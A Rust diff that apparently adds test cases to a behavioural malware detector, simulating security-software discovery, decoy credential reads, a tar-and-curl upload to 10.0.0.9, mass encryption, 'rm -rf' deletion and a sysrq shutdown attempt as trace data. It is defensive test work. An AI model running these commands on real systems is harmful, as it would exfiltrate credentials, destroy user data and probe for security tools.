@@ -5,8 +5,8 @@ use types::Kind;
 use super::Expect::{Malicious, Suspicious};
 use super::{Row, runs, shell};
 use crate::trace::{
-    EACCES, ENOENT, ROOT, append, changed, connect, limit, random, read, rename, unlink, update,
-    write,
+    EACCES, ENOENT, ROOT, append, changed, connect, http, limit, open_new, random, read, rename,
+    unlink, update, write,
 };
 
 fn documents() -> impl Iterator<Item = (u32, String)> {
@@ -138,6 +138,10 @@ pub(super) const RANSOM: &[Row] = &[
 ];
 
 pub(super) const DISCOVERY: &[Row] = &[
+    ("security-software-search", Suspicious, |t| {
+        let script = shell(t, "true");
+        t.pipeline(script, &["ps aux", "grep -E falcon|osquery|auditd"]);
+    }),
     ("discovery-burst", Suspicious, |t| {
         let script = shell(t, "true");
         for line in ["whoami", "uname -a", "ps aux", "ip addr", "ss -an", "df -h", "mount"] {
@@ -168,7 +172,57 @@ pub(super) const COLLECTION: &[Row] = &[
     ("drop-site", Suspicious, |t| runs(t, "curl https://transfer.sh/x")),
 ];
 
+pub(super) const DECOYS: &[Row] = &[
+    ("decoys-gathered", Suspicious, |t| {
+        plant(t);
+        for decoy in [".aws/credentials", ".ssh/id_ed25519", ".kube/config"] {
+            t.event(ROOT, read(&format!("/home/sandbox/{decoy}")));
+        }
+    }),
+    ("decoys-taken-out", Suspicious, |t| {
+        plant(t);
+        let tar = t.command(ROOT, "tar cz /home/sandbox");
+        for decoy in PLANTED {
+            t.event(tar, read(&format!("/home/sandbox/{decoy}")));
+        }
+        let curl = t.command(ROOT, "curl -T x http://10.0.0.9/");
+        t.event(curl, http("10.0.0.9", "PUT /x HTTP/1.1", b"noise"));
+    }),
+    ("mass-encryption", Malicious, |t| {
+        plant(t);
+        for decoy in PLANTED.iter().filter(|name| name.starts_with("Documents/")) {
+            let path = format!("/home/sandbox/{decoy}");
+            t.event(ROOT, update(&path));
+            t.event(ROOT, write(&path, &random(9)));
+            t.event(ROOT, rename(&path, &format!("{path}.locked")));
+        }
+    }),
+    ("mass-destruction", Suspicious, |t| {
+        plant(t);
+        let rm = t.command(ROOT, "rm -rf /home/sandbox/Documents /home/sandbox/.aws");
+        for decoy in PLANTED {
+            t.event(rm, unlink(&format!("/home/sandbox/{decoy}")));
+        }
+    }),
+];
+
+const PLANTED: [&str; 7] = [
+    ".aws/credentials",
+    ".ssh/id_ed25519",
+    ".kube/config",
+    "Documents/a.txt",
+    "Documents/b.docx",
+    "Documents/c.pdf",
+    "Documents/d.xlsx",
+];
+
+fn plant(trace: &mut crate::trace::Trace) {
+    let paths = PLANTED.iter().map(|name| format!("/home/sandbox/{name}").as_str().into());
+    trace.recording.run.decoys = paths.collect();
+}
+
 pub(super) const DISRUPTION: &[Row] = &[
+    ("shutdown", Suspicious, |t| t.failed(ROOT, open_new("/proc/sysrq-trigger"), EACCES)),
     ("resource-exhaustion", Suspicious, |t| {
         t.event(ROOT, limit("pids"));
     }),
